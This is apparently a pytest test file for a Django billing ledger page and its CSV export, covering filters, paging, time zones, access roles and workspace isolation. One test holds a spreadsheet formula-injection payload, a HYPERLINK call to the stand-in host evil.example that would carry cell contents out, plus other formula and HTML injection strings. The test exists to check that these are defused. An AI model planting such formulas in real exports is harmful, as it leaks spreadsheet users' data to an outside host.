"""The ledger as a page and as a file: the same lines, by kind and day, and nobody else's."""

import csv
import io
import re
import uuid
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts import clock
from billing import quotas
from billing.ledger_pages import cell
from billing.models import LedgerEntry
from tests.billing.facts import at
from tests.billing.meter import consume, give
from tests.people import Person
from tests.sessions_app.browsing import Browser

NOW = at(2026, 11, 20, 12)
MINUS, WIDE = "\N{MINUS SIGN}", "\N{FULLWIDTH EQUALS SIGN}"
HEAD = ["created_at", "kind", "quantity", "run_id", "bucket", "balance", "note"]


@pytest.fixture
def now(travel: Callable[[timedelta], datetime]) -> datetime:
    return travel(NOW - clock.now())


@pytest.fixture
def used(bob: Person, now: datetime) -> Person:
    """bob, with runs on three days, one of them given back, and a credit."""
    for day, hour in ((17, 23), (18, 9), (18, 23), (19, 8)):
        run = consume(bob.workspace, at(2026, 11, day, hour, 30))
    quotas.refund(run_id=run, now=at(2026, 11, 19, 9))
    give(bob.workspace, 3, at(2026, 11, 19, 10))
    return bob


def rows(page: str) -> list[list[str]]:
    """The cells of each line of the table."""
    body = page.partition("<tbody>")[2].partition("</tbody>")[0]
    found = re.findall(r"<tr>(.*?)</tr>", body, re.DOTALL)
    return [
        [
            " ".join(re.sub(r"<[^>]+>", " ", cell).split())
            for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, re.S)
        ]
        for row in found
    ]


def shown(browser: Browser, query: str = "") -> list[list[str]]:
    return rows(browser.text(f"/billing/ledger{query}"))


def exported(browser: Browser, query: str = "") -> list[list[str]]:
    answer = browser.get(f"/billing/ledger.csv{query}")
    assert answer.status_code == 200
    assert answer.streaming
    head, *lines = csv.reader(io.StringIO(answer.getvalue().decode()))
    assert head == HEAD
    return lines


def test_every_line_with_what_was_left_after_it(used: Person) -> None:
    assert shown(Browser(used)) == [
        ["19 Nov 2026, 10:00", "Credit Test", "+3", "3"],
        ["19 Nov 2026, 09:00", "Run given back", "+1", "7"],
        ["19 Nov 2026, 08:30", "Run", f"{MINUS}1", "6"],
        ["18 Nov 2026, 23:30", "Run", f"{MINUS}1", "7"],
        ["18 Nov 2026, 09:30", "Run", f"{MINUS}1", "8"],
        ["17 Nov 2026, 23:30", "Run", f"{MINUS}1", "9"],
    ]


@pytest.mark.parametrize(
    ("query", "count"),
    [
        ("", 6),
        ("?kind=&since=&until=", 6),
        ("?kind=consume", 4),
        ("?kind=refund", 1),
        ("?kind=grant", 1),
        ("?kind=adjust", 0),
        ("?since=2026-11-18", 5),
        ("?until=2026-11-18", 3),
        ("?since=2026-11-18&until=2026-11-18", 2),
        ("?since=2026-11-18&until=2026-11-19&kind=consume", 3),
        ("?since=2027-01-01", 0),
    ],
)
def test_page_and_file_show_the_same_of_it(used: Person, query: str, count: int) -> None:
    browser = Browser(used)
    assert len(shown(browser, query)) == len(exported(browser, query)) == count


def test_days_are_the_viewers(used: Person) -> None:
    browser = Browser(used)
    browser.client.cookies["zone"] = "Asia/Tokyo"
    assert [row[0] for row in shown(browser, "?since=2026-11-19&until=2026-11-19&kind=consume")] == [
        "19 Nov 2026, 17:30",
        "19 Nov 2026, 08:30",
    ]
    assert len(exported(browser, "?since=2026-11-19&until=2026-11-19&kind=consume")) == 2


@pytest.mark.parametrize("query", ["?kind=theft", "?since=yesterday", "?since=2026-11-19&until=2026-11-18"])
def test_what_cannot_be_shown_is_said_beside_its_field(used: Person, query: str) -> None:
    browser = Browser(used)
    for path in ("/billing/ledger", "/billing/ledger.csv"):
        answer = browser.get(f"{path}{query}")
        assert answer.status_code == 400
        page = answer.content.decode()
        assert 'class="errorlist"' in page
        assert rows(page) == []


def test_nothing_yet_and_nothing_that_matches_are_told_apart(bob: Person, used: Person, charlie: Person) -> None:
    assert "The ledger is empty" in Browser(charlie).text("/billing/ledger")
    assert "Nothing matches" in Browser(used).text("/billing/ledger?kind=adjust")


def test_it_is_paged_and_keeps_the_filter(bob: Person, now: datetime) -> None:
    give(bob.workspace, 40, NOW)
    for number in range(45):
        consume(bob.workspace, at(2026, 11, 19) + timedelta(minutes=number))
    browser = Browser(bob)
    seen, path = 0, "/billing/ledger?kind=consume"
    for length in (20, 20, 5):
        page = browser.text(path)
        assert len(rows(page)) == length
        seen += length
        older = re.search(r'<a class="button quiet small" href="([^"]+)">Older</a>', page)
        assert ("Newer" in page) == (seen > 20)
        if older:
            path = f"/billing/ledger{older[1].replace('&amp;', '&')}"
            assert "kind=consume" in path
    assert older is None
    assert browser.get("/billing/ledger?cursor=forged").status_code == 404


def test_the_file_says_all_of_a_line_oldest_first(used: Person) -> None:
    lines = exported(Browser(used))
    first, refund, grant = lines[0], lines[-2], lines[-1]
    entry = LedgerEntry.objects.order_by("created_at", "id")[0]
    assert first == ["2026-11-17T23:30:00+00:00", "consume", "-1", str(entry.run_id), "period", "9", ""]
    assert refund[1:3] == ["refund", "1"]
    assert grant == ["2026-11-19T10:00:00+00:00", "grant", "3", "", str(LedgerEntry.objects.get(kind="grant").grant_id),
                     "3", "Test"]  # fmt: skip


def test_what_a_spreadsheet_would_carry_out_is_defused(bob: Person, now: datetime) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Look")'
    for reason in (formula, "+1", "-1", "@SUM(A1)", "\t=1", " =1", f"{WIDE}1", "Plain, with a comma"):
        quotas.give(bob.subscription, quantity=1, kind="given", reason=reason, now=NOW)  # type: ignore[arg-type]
    notes = [line[-1] for line in exported(Browser(bob))]
    assert notes == [f"'{formula}", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "' =1", f"'{WIDE}1", "Plain, with a comma"]
    # On the page it is text like any other.
    quotas.give(bob.subscription, quantity=1, kind="given", reason="<b>bold</b>", now=NOW)  # type: ignore[arg-type]
    assert "&lt;b&gt;bold&lt;/b&gt;" in Browser(bob).text("/billing/ledger")


@pytest.mark.parametrize("value", [-1, 0, 5, "", "9", "consume"])
def test_what_is_none_stays_as_it_is(value: Any) -> None:
    assert cell(value) == value


@pytest.mark.parametrize("path", ["/billing/ledger", "/billing/ledger.csv", "/billing/invoices"])
def test_members_do_not_see_the_books(tara: Person, dana: Person, mike: Person, path: str) -> None:
    assert [Browser(one).get(path).status_code for one in (tara, dana, mike)] == [200, 200, 403]
    assert "Your role in this workspace does not allow this." in Browser(mike).get(path).content.decode()
    away = Browser(tara)
    away.client.logout()
    answer = away.get(path)
    assert (answer.status_code, answer["Location"]) == (302, f"/accounts/login/?next={path}")


def test_nobody_sees_another_workspaces(used: Person, charlie: Person) -> None:
    consume(charlie.workspace, NOW)
    browser = Browser(charlie)
    assert len(shown(browser)) == len(exported(browser)) == 1


def many_lines(person: Person, count: int) -> None:
    """So many runs within the present month; written as the application writes them."""
    consume(person.workspace, at(2026, 11, 1))
    with connection.cursor() as cursor:
        cursor.execute(
            """
            INSERT INTO billing_ledgerentry (workspace_id, kind, quantity, run_id, period_id, balance, created_at)
            SELECT workspace_id, kind, -1, gen_random_uuid(), period_id, NULL,
                timestamptz '2026-11-01 00:00+00' + n * interval '15 seconds'
            FROM billing_ledgerentry, generate_series(1, %s) n WHERE workspace_id = %s
            """,
            [count, person.workspace.pk],
        )
        cursor.execute("ANALYZE billing_ledgerentry")


def test_however_long_it_is_few_statements_show_it(
    bob: Person, now: datetime, statements: Callable[[], CaptureQueriesContext]
) -> None:
    many_lines(bob, 20_000)
    browser = Browser(bob)
    for query in ("", "?kind=consume&since=2026-11-02", "?kind=refund"):
        with statements() as seen:
            shown(browser, query)
        assert len(seen) <= 8, [query["sql"] for query in seen]


def test_the_file_is_sent_as_it_is_read(bob: Person, now: datetime) -> None:
    many_lines(bob, 20_000)
    chunks = iter(Browser(bob).get("/billing/ledger.csv").streaming_content)
    first = [next(chunks) for _ in range(3)]
    assert all(chunk.count(b"\r\n") == 1 for chunk in first)
    assert sum(1 for _ in chunks) == 20_001 - 2
    assert uuid.UUID(first[1].decode().split(",")[3])
